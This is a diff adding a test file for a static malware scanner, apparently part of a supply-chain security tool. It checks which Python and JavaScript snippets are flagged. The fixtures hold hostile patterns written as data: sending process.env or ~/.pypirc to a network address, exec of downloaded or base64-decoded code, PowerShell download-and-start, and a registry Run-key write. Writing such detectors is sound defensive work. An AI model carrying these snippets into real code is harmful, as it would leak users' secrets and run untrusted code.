@@ -1,0 +1,139 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { ActKind } from '../src/facts/acts/act.ts';
+import { readActs } from '../src/facts/acts/read-acts.ts';
+import { memoryTree, scan } from '../src/index.ts';
+
+function python(text: string, path = 'pkg/module.py'): readonly ActKind[] {
+  return readActs({ path, text, language: 'python', context: 'runtime' }).map(({ kind }) => kind);
+}
+function script(text: string): readonly ActKind[] {
+  return readActs({ path: 'lib/a.js', text, language: 'javascript', context: 'runtime' }).map(({ kind }) => kind);
+}
+
+test('a parameter is not what another function calls by that name', () => {
+  const collects = 'def collect(self):\n    facts = [socket.gethostname(), getpass.getuser()]\n    return facts\n\n';
+  assert.deepEqual(
+    python(`${collects}def look(facts: Facts, wait):\n    return requests.post(wait, json=facts)\n`),
+    [],
+  );
+  assert.deepEqual(
+    python(
+      'def read(file="~/.pypirc"):\n    return parse(file)\n\ndef upload(file: Path, to):\n    with file.open("rb") as f:\n        requests.post(to, data=f.read())\n',
+    ),
+    [],
+  );
+  const held = 'function one() {\n  const held = JSON.stringify(process.env);\n  return held;\n}\n';
+  assert.deepEqual(script(`${held}function two(held) {\n  fetch(u, { body: held });\n}\n`), []);
+  assert.deepEqual(script(`${held}const two = async ({ held }) => {\n  await fetch(u, { body: held });\n};\n`), []);
+  // The function itself, the one round it, and the module are asked as before.
+  const own = 'JSON.stringify(process.env)';
+  assert.deepEqual(script(`function two(held) {\n  held = ${own};\n  fetch(u, { body: held });\n}\n`), [
+    'environment-sent',
+  ]);
+  assert.deepEqual(
+    script(`function two(u) {\n  const held = ${own};\n  run(() => {\n    fetch(u, { body: held });\n  });\n}\n`),
+    ['environment-sent'],
+  );
+  assert.deepEqual(script(`const held = ${own};\nfunction two(held) {\n  fetch(u, { body: held });\n}\ntwo(held);\n`), [
+    'environment-sent',
+  ]);
+});
+
+test('an address is handed in under its own name', () => {
+  const text =
+    'def main():\n    hook = "https://abc.pipedream.net"\n    tell(collect(), hook)\n\ndef tell(data, hook):\n    requests.post(hook, json=data)\n';
+  assert.deepEqual(python(text), ['shady-contact']);
+});
+
+test('a function that is named like a parameter is not what runs', () => {
+  const fetches = 'def profile(name):\n    return requests.get(BASE + name).json()\n\n';
+  assert.deepEqual(python(`${fetches}def apply(profile):\n    exec(profile["start"])\n`), []);
+  assert.deepEqual(python(`${fetches}code = profile("a")\nexec(code)\n`), ['remote-execution']);
+});
+
+test('a short name of packed code ends with its block', () => {
+  const others = Array.from({ length: 20 }, (_, index) => `function f${index}() {\n  var n = ${index};\n}`).join('\n');
+  const block = 'function a() {\n  let n = JSON.stringify(process.env);\n  return n;\n}\n';
+  assert.deepEqual(script(`${others}\n${block}function b() {\n  let t = u, n;\n  fetch(t, n);\n}\n`), []);
+  assert.deepEqual(script(`${others}\nfunction a() {\n  let n = JSON.stringify(process.env);\n  fetch(u, n);\n}\n`), [
+    'environment-sent',
+  ]);
+});
+
+test('in a long file fewer steps are taken', () => {
+  const chain = Array.from({ length: 6 }, (_, index) => `const step${index + 1} = String(step${index});\n`).join('');
+  const text = `const step0 = atob(blob);\n${chain}new Function(step6)();\n`;
+  const filler = '// nothing\nvar used = call(1, 2);\n'.repeat(5_000);
+  assert.deepEqual(script(text), ['decoded-execution']);
+  assert.deepEqual(script(filler + text), []);
+  assert.deepEqual(script(`${filler}const code = atob(blob);\nnew Function(code)();\n`), ['decoded-execution']);
+});
+
+test('a method that is called fetch fetches nothing where it is declared', () => {
+  const text =
+    'class A {\n  async fetch(t) { return this.kept[t]; }\n}\nconst code = new A().rule;\nnew Function(code)();\n';
+  assert.deepEqual(script(text.replace('class A', 'const A = class')), []);
+  assert.deepEqual(script('const code = await (await fetch(u)).text();\nnew Function(code)();\n'), [
+    'remote-execution',
+  ]);
+});
+
+test('bytes that are written to a connection are no address', () => {
+  assert.deepEqual(
+    script("const net = require('net');\nthis.socket.write(Buffer.from('20', 'hex'));\nother.send(text);\n"),
+    [],
+  );
+  assert.deepEqual(script("https.get(Buffer.from('687474703a2f2f', 'hex').toString());\n"), ['shady-contact']);
+});
+
+test('an archive that is unpacked is not started', () => {
+  const saved =
+    'const answer = await fetch(u);\nconst file = createWriteStream(target);\nawait pipeline(answer.body, file);\n';
+  const command = (text: string) => `await execFile('powershell.exe', ['-Command', \`${text}\`]);\n`;
+  const unpack = "Expand-Archive -LiteralPath '${target}' -DestinationPath '${to}'";
+  assert.deepEqual(script(saved + command(unpack)), []);
+  assert.deepEqual(script(saved + command(`${unpack}; Start-Process '\${target}'`)), ['dropped-execution']);
+});
+
+test('a file whose place is filled in later is no file that is started', () => {
+  const text =
+    'import subprocess\na = fill("curl {0} {1} -o {2}", x, y, t)\nb = fill("wget {0} -O {2} || ( rm {2} ; exit 1 )", x, y, t)\nchmod(t, m)\n';
+  assert.deepEqual(python(text), []);
+});
+
+test('to make a download runnable whose address is handed in is little', async () => {
+  const report = async (address: string) => {
+    const code = `import os\nfrom urllib.request import urlretrieve\n\n\ndef get_tool(target, address):\n    urlretrieve(${address}, target)\n    os.chmod(target, 0o755)\n    return target\n`;
+    const { findings } = await scan(memoryTree({ 'setup.cfg': '[metadata]\nname = x\n', 'pkg/main.py': code }));
+    return findings.filter(({ kind }) => kind === 'malice').map(({ checkId, severity }) => [checkId, severity]);
+  };
+  assert.deepEqual(await report('address'), [
+    ['rce-dropper', 'medium'],
+    ['supply-chain-hostile-code', 'low'],
+  ]);
+  assert.ok((await report('"https://cdn.example.net/agent"')).some(([, severity]) => severity === 'high'));
+});
+
+test('a program that the code itself encodes was not stored in disguise', () => {
+  const run = 'subprocess.check_output(["node", "-e", js])\n';
+  assert.deepEqual(
+    python(`js = 'var t = atob("%s");' \\\n     'run(t)' \\\n     % base64.b64encode(made(body))\n${run}`),
+    [],
+  );
+  assert.deepEqual(python(`js = 'run(atob("${'cHJpbnQo'.repeat(12)}"))'\n${run}`), ['decoded-execution']);
+});
+
+test('a key of the registry that is nowhere written is for the caller to say', () => {
+  const set = (key: string) =>
+    script(
+      `const child_process = require('child_process');\nfunction set(key, value) {\n  const command = ['reg add "', ${key}, '" /f /d "', value, '"'].join('');\n  child_process.exec(command);\n}\n`,
+    );
+  assert.deepEqual(set('key'), []);
+  assert.deepEqual(set(String.raw`'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'`), ['risky-command']);
+});
+
+test('the interface of a shortener is not a short address', () => {
+  assert.deepEqual(python('urlopen("https://api-ssl.bit.ly/v3/shorten?%s" % q)\n'), []);
+  assert.deepEqual(python('urlopen("https://bit.ly/3xYz")\n'), ['shady-contact']);
+});
